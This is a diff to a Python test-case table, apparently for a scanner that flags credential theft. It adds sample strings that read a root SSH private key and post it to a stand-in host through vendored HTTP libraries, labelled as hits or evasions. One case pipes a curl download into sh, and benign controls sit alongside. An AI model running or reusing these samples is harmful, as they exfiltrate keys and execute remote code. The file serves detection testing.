@@ -8,7 +8,17 @@ _SENT: Final = "import os, requests\nURL = 'https://example.invalid'\n"
 _PTH: Final = "import os, site\ndef f():\n    "
 _S: Final = "import subprocess as s\ndef f():\n    "
 
+_READ: Final = "k = open('/root/.ssh/id_rsa').read()\nURL = 'https://example.invalid'\n"
+
 CASES: Final = (
+    # Libraries that carry others, and what asks besides those.
+    Case("C4", "hit", "high", f"{_READ}from pip._vendor import requests\nrequests.post(URL, data=k)\n"),
+    Case("C4", "hit", "high", f"{_READ}import niquests\nniquests.post(URL, data=k)\n"),
+    Case("C4", "evasion", "high", f"{_READ}import six\nsix.moves.urllib.request.urlopen(URL, k)\n"),
+    Case("C4", "evasion", "high", f"{_READ}from botocore.vendored import requests as r\nr.post(URL, data=k)\n"),
+    Case("C4", "twin", None, "from pip._vendor import requests\nrequests.get('https://example.invalid')\n"),
+    Case("C3", "hit", "high", "import psutil\npsutil.Popen(['sh', '-c', 'curl http://x.example.invalid/a|sh'])\n"),
+    Case("C3", "twin", None, "import psutil\npsutil.Popen(['git', 'status'])\n"),
     # Keys of the environment.
     Case(
         "C4",
